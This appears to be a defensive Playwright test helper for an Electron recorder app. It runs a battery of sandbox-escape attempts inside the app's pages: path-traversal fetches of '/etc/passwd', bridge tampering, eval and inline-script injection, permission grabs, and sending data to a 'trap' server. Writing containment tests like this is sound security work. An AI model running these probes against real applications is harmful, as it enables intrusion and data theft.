// What a script that got into one of our pages would try. Each runs in the page and tells what it got;
// nothing here may lean on the outside, since Playwright carries the functions over as text.

/** What the attempts in one page came to; every list names what succeeded and must be empty. */
export interface Outcome {
  /** Names of Node or Electron that the page can see. */
  readonly node: readonly string[];
  /** The keys of `window.recorder`, and whether it can be changed. */
  readonly bridge: readonly string[];
  readonly isBridgeFrozen: boolean;
  /** Addresses that answered, or that a page element loaded. */
  readonly reached: readonly string[];
  /** Code that ran although the policy forbids it. */
  readonly ran: readonly string[];
  /** Windows that opened. */
  readonly opened: readonly string[];
  /** Permissions that were granted. */
  readonly granted: readonly string[];
  /** Frames in the page that have the bridge. */
  readonly frames: readonly string[];
}

/** Tries everything once; `trap` is the address of a server that counts who comes. */
export async function tryEverything(trap: string): Promise<Outcome> {
  const node: string[] = [];
  const reached: string[] = [];
  const ran: string[] = [];
  const opened: string[] = [];
  const granted: string[] = [];
  const frames: string[] = [];
  const patience = <T>(promise: Promise<T>): Promise<T | 'late'> =>
    Promise.race([
      promise,
      new Promise<'late'>((resolve) => {
        setTimeout(() => resolve('late'), 1500);
      }),
    ]);
  const attempt = async (
    list: string[],
    name: string,
    act: () => unknown,
    isIt: (got: unknown) => boolean = (got) => got !== undefined && got !== null && got !== false,
  ): Promise<void> => {
    try {
      const got = await patience(Promise.resolve(act()));
      if (got !== 'late' && isIt(got)) list.push(name);
    } catch {
      // Refused, as it should be.
    }
  };

  for (const name of [
    'require',
    'process',
    'module',
    'Buffer',
    'global',
    'ipcRenderer',
    'electron',
  ])
    if (Reflect.has(globalThis, name)) node.push(name);

  const { recorder } = window;
  const bridge = Object.keys(recorder).toSorted();
  let isBridgeFrozen = Object.isFrozen(recorder);
  try {
    Reflect.set(recorder, 'ask', () => 'mine');
    isBridgeFrozen &&= !String(recorder.ask).includes('mine');
  } catch {
    // Frozen.
  }

  for (const url of [
    `${trap}/fetch`,
    'https://example.com/',
    'file:///etc/passwd',
    'app://bundle/../../../../etc/passwd',
    'app://bundle/..%2f..%2f..%2fetc%2fpasswd',
    'app://bundle/panel/%2e%2e/%2e%2e/main/index.cjs',
    'app://other/panel/index.html',
    'media://../../etc/passwd',
    'media://00112233aabbccdd/..%2f..%2frecording.json',
    'chrome://version',
    'devtools://devtools/bundled/inspector.html',
  ])
    await attempt(reached, url, async () => (await fetch(url)).ok);
  await attempt(reached, 'beacon', () => navigator.sendBeacon(`${trap}/beacon`, 'x') && false);
  await attempt(
    reached,
    'websocket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${trap.replace('http', 'ws')}/socket`);
        socket.addEventListener('open', () => resolve(true));
        socket.addEventListener('error', () => resolve(false));
      }),
  );
  const loads = (
    tag: 'img' | 'script' | 'iframe' | 'video' | 'link',
    url: string,
  ): Promise<boolean> =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.addEventListener('load', () => resolve(true));
      element.addEventListener('loadeddata', () => resolve(true));
      element.addEventListener('error', () => resolve(false));
      element.setAttribute(tag === 'link' ? 'href' : 'src', url);
      if (tag === 'link') element.setAttribute('rel', 'stylesheet');
      document.body.append(element);
    });
  for (const tag of ['img', 'script', 'video', 'link'] as const)
    await attempt(reached, tag, () => loads(tag, `${trap}/${tag}`));
  await attempt(reached, 'service worker', () => navigator.serviceWorker.register('/panel/sw.js'));
  await attempt(reached, 'rtc', () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(trap).host}` }] });
    peer.close();
    return false;
  });

  await attempt(ran, 'eval', () =>
    Reflect.apply(Reflect.get(globalThis, 'eval'), undefined, ['1']),
  );
  await attempt(ran, 'function', () =>
    Reflect.apply(Reflect.construct(Function, ['return 1']), undefined, []),
  );
  await attempt(ran, 'inline script', () => {
    const script = document.createElement('script');
    script.textContent = 'window.wasRun = true';
    document.body.append(script);
    return Reflect.has(globalThis, 'wasRun');
  });
  await attempt(ran, 'inline handler', async () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.wasHandled = true');
    image.src = 'app://bundle/none.png';
    document.body.append(image);
    await new Promise((resolve) => {
      setTimeout(resolve, 100);
    });
    return Reflect.has(globalThis, 'wasHandled');
  });
  await attempt(ran, 'blob script', () =>
    loads('script', URL.createObjectURL(new Blob(['window.wasBlob = true']))),
  );
  await attempt(ran, 'webview', () => {
    const view = document.createElement('webview');
    view.setAttribute('src', trap);
    document.body.append(view);
    return Reflect.has(view, 'getWebContentsId');
  });

  await attempt(opened, 'window.open', () => window.open(`${trap}/open`));
  await attempt(opened, 'window.open, own scheme', () =>
    window.open('app://bundle/panel/index.html'),
  );
  await attempt(opened, 'window.open, blank', () => window.open('about:blank'));

  const media = navigator.mediaDevices;
  const isCapture = location.pathname.startsWith('/capture/');
  // The engine has the microphones; nobody has the screen unasked, nor the camera that it does not use.
  if (!isCapture) {
    await attempt(granted, 'microphone', () => media.getUserMedia({ audio: true }));
    await attempt(granted, 'camera', () => media.getUserMedia({ video: true }));
  }
  await attempt(granted, 'screen', () => media.getDisplayMedia({ video: true }));
  await attempt(
    granted,
    'location',
    () =>
      new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
        );
      }),
  );
  await attempt(
    granted,
    'notifications',
    () => Notification.requestPermission(),
    (got) => got === 'granted',
  );
  await attempt(granted, 'clipboard read', () => navigator.clipboard.readText());
  await attempt(granted, 'local fonts', async () => {
    const query: unknown = Reflect.get(globalThis, 'queryLocalFonts');
    const fonts: unknown =
      typeof query === 'function' ? await Reflect.apply(query, globalThis, []) : [];
    return Array.isArray(fonts) && fonts.length > 0;
  });
  for (const [name, member] of [
    ['hid', 'requestDevice'],
    ['usb', 'requestDevice'],
    ['serial', 'requestPort'],
    ['bluetooth', 'requestDevice'],
  ] as const)
    await attempt(
      granted,
      name,
      () => {
        const api: unknown = Reflect.get(navigator, name);
        if (typeof api !== 'object' || api === null) return [];
        return Reflect.apply(Reflect.get(api, member), api, [
          { filters: [], acceptAllDevices: true },
        ]);
      },
      (got) => !Array.isArray(got) || got.length > 0,
    );
  await attempt(granted, 'midi', () => navigator.requestMIDIAccess({ sysex: true }));

  for (const source of [
    'srcdoc',
    'about:blank',
    `${trap}/frame`,
    'app://bundle/settings/index.html',
  ])
    await attempt(frames, source, async () => {
      const frame = document.createElement('iframe');
      if (source === 'srcdoc') frame.srcdoc = '<p>hello</p>';
      else frame.src = source;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        setTimeout(resolve, 500);
      });
      return Reflect.has(frame.contentWindow ?? {}, 'recorder');
    });

  return { node, bridge, isBridgeFrozen, reached, ran, opened, granted, frames };
}

/** Lays a link to the trap over the whole page, for clicks that only a real mouse can make. */
export function coverWithLink(trap: string): void {
  const link = document.createElement('a');
  link.href = `${trap}/mouse`;
  link.style.cssText = 'position:fixed;inset:0;z-index:2147483647';
  document.body.append(link);
}

/** Tries to leave the page; what counts is where it is afterwards. */
export async function tryToLeave(trap: string): Promise<void> {
  const form = document.createElement('form');
  form.action = `${trap}/form`;
  form.method = 'post';
  document.body.append(form);
  const link = document.createElement('a');
  link.target = '_blank';
  link.href = `${trap}/link`;
  document.body.append(link);
  const ways = [
    () => location.assign(`${trap}/assign`),
    () => location.assign('file:///etc/passwd'),
    () => location.assign('https://app.claap.io/'),
    () => location.assign('javascript:document.write(1)'),
    () => location.replace('data:text/html,<p>hello</p>'),
    () => location.assign('app://bundle/settings/index.html?other'),
    () => form.submit(),
    () => link.click(),
    () => {
      link.target = '';
      link.click();
    },
    () => {
      link.download = 'x.html';
      link.click();
    },
    () => {
      link.href = URL.createObjectURL(new Blob(['<script>alert(1)</script>']));
      link.click();
    },
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // Refused at once.
    }
    await new Promise((resolve) => {
      setTimeout(resolve, 50);
    });
  }
}
